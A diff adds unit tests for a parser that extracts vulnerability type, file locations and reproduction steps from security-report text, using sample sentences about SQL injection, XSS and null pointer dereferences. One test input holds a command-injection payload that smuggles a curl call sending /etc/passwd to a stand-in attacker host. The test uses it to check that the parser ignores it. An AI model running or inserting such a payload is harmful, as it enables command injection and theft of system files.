@@ -218,3 +218,28 @@ describe('a machine-translated issue', () => {
     expect(fields('We tested Acme Forum 1.2 and found a storage XSS in the background setting.', 'Website background XSS').component).toBe('Acme Forum');
   });
 });
+
+// The sixteenth corpus batch: plural classes, a script named as vulnerable, a static analyser's findings.
+describe('an issue that names its flaw in the plural or as a checker does', () => {
+  it('types "two SQL injections" and a null pointer dereference (CWE-476)', () => {
+    expect(fields('The file login.php is vulnerable to two SQL injections.', 'SQL vulnerability').vulnType).toBe('sql injection');
+    expect(fields('A NULL pointer dereference happens in strip_expr().', 'issue about null pointer dereference').vulnType).toBe('null pointer dereference');
+  });
+
+  it('takes the script the report calls vulnerable for the place', () => {
+    expect(fields('The file login.php is vulnerable to two SQL injections.', 'SQL vulnerability').locations).toEqual(['login.php']);
+    expect(fields('I found that search.php is vulnerable to XSS.').locations).toEqual(['search.php']);
+    expect(fields('Upload shell.php and open it.').locations).toBeUndefined();
+  });
+
+  it("takes no file a payload's command reads for a place", () => {
+    const text = 'The tool could pass `eth0; curl attacker.example/x?data=$(cat /etc/passwd)` as the interface parameter.';
+    expect(fields(text).locations).toBeUndefined();
+  });
+
+  it('takes no list of how a flaw happens, nor the title line, for steps', () => {
+    const text =
+      'issue about null pointer dereference\n\nHow the NULL Pointer Dereference happens:\n1. When the `last_stmt` is Null\n2. NULL dereference of variable `last_stmt->label` happens\n';
+    expect(fields(text, 'issue about null pointer dereference').steps).toBeUndefined();
+  });
+});
